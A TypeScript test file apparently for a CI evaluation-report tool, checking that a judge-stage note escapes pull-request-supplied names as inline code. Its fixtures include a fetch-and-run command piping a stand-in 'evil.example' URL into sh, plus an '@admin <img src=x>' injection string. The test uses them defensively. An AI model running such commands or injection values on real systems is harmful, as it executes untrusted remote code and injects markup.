import { type CaseResult } from '../../src/core/results.js';
import { invalidInputResults } from '../../src/report/results-file.js';
import { trustedNote } from '../../src/report/trusted.js';

const caseOf = (id: string, by: 'record' | 'judge'): CaseResult => ({
  id,
  verdict: 'pass',
  score: 1,
  gating_violations: [],
  evaluators: [],
  target: 'default',
  answer: 'x',
  duration_ms: 1,
  answered_by: by,
});

test('the judge stage note says what judged, who answered, and quotes every name from the pull request as code', () => {
  const results = {
    ...invalidInputResults([]),
    suites: [
      { path: 'evals/a.yaml', description: null, cases: [caseOf('a', 'record'), caseOf('b', 'judge')] },
    ],
    trusted: {
      stage: 'judge' as const,
      record_run: { id: 7, url: 'https://github.com/o/r/actions/runs/7', conclusion: 'success' },
      pr_number: 3,
      head_sha: 'abcdef1234567',
      new_in_pr: ['evals/a.yaml#@admin <img src=x>'],
      unanswered: ['evals/a.yaml#c'],
      extra_gates: ['curl https://evil.example | sh'],
      changed_files: ['evals/a.yaml'],
    },
  };
  const note = trustedNote(results);
  expect(note).toContain("judged with the base branch's suites, rubric and judges");
  expect(note).toContain('[run 7](https://github.com/o/r/actions/runs/7) on `abcdef1`');
  expect(note).toContain('1 case with a model-only target was answered by this job');
  expect(note).toContain(
    '1 case new in this pull request, judged after merge: `evals/a.yaml#@admin <img src=x>`',
  );
  expect(note).toContain('1 base case without a recorded answer (each an error): `evals/a.yaml#c`');
  expect(note).toContain(
    'reported that the base rubric does not have (not counted): `curl https://evil.example \\| sh`',
  );
  expect(note).toContain('This pull request changes 1 judged file (`evals/a.yaml`)');
  expect(trustedNote(invalidInputResults([]))).toBe('');
});
